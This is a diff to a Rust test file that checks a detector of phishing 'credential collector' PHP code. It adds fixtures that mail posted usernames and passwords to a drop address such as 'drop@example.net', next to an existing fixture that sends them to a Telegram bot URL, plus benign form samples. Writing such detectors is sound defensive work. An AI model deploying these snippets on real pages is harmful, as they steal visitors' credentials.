@@ -413,6 +413,15 @@ fn credential_collectors_are_found() {
     let chat = "<?php $t = \"User: \" . $_POST['user'] . \"\\nPass: \" . $_POST['pass']; \
                 file_get_contents('https://api.telegram.org/bot123:abc/sendMessage?chat_id=1&text=' . urlencode($t));";
     assert_eq!(found(chat), [Why::CredentialCollector]);
+    // Fields named by a letter, the labels saying what they hold.
+    let letters = "<?php $m = \"Email : \" . $_POST['u'] . \"\\n\"; $m .= \"Password : \" . $_POST['p']; \
+                   mail('drop@example.net', 'x', $m);";
+    assert_eq!(found(letters), [Why::CredentialCollector]);
+    // Labels set in HTML, the fields through variables.
+    let html = "<?php $u = $_POST['user']; $p = $_POST['pass']; $m = \"<b>User :</b> <i>\" . $u . \"</i><br>\"; \
+                $m .= \"<b> Pass : </b><font color='#000'>\" . $p . \"</font>\"; mail($to, 'x', $m); \
+                header('Location: next.php');";
+    assert_eq!(found(html), [Why::CredentialCollector]);
 }
 
 #[test]
@@ -420,6 +429,10 @@ fn order_forms_are_not_collectors() {
     let order = "<?php $m = 'Email: ' . $_POST['email'] . \"\\n\"; $m .= 'Shipping: ' . $_POST['shipping'] . \"\\n\"; \
                  $m .= 'Express: ' . $_POST['express_delivery']; mail($shop, 'New order', $m);";
     assert!(found(order).is_empty());
+    // A feedback form: fields named by a letter, none a secret.
+    let feedback = "<?php $m = \"<b>Name:</b> \" . $_POST['n'] . \"<br><b>Email:</b> \" . $_POST['e']; \
+                    mail($shop, 'Feedback', $m);";
+    assert!(found(feedback).is_empty());
 }
 
 #[test]
